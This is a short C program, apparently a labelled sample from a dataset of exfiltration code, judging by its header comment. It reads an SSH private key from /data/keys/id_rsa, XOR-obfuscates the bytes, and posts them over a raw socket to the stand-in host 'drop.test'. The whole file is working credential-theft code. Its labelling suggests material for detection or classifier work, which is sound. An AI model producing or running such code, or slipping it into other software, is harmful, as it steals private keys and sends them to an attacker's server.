// class: exfiltration; possible: low medium; needs: data; style: C, XOR, a form over a socket
#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(void)
{
    struct addrinfo h = { .ai_socktype = SOCK_STREAM }, *a;
    char body[8192], head[200];
    size_t n = 0;
    FILE *f = fopen("/data/keys/id_rsa", "rb");
    n = f ? fread(body, 1, sizeof body, f) : 0;
    for (size_t i = 0; i < n; i++)
        body[i] ^= 0x33;
    if (!n || getaddrinfo("drop.test", "80", &h, &a))
        return 1;
    int s = socket(a->ai_family, SOCK_STREAM, 0);
    if (connect(s, a->ai_addr, a->ai_addrlen))
        return 1;
    int m = snprintf(head, sizeof head, "POST /f HTTP/1.0\r\nHost: drop.test\r\nContent-Length: %zu\r\n\r\n", n);
    if (write(s, head, (size_t)m) != m || write(s, body, n) != (ssize_t)n)
        return 1;
    return read(s, head, sizeof head) <= 0;
}
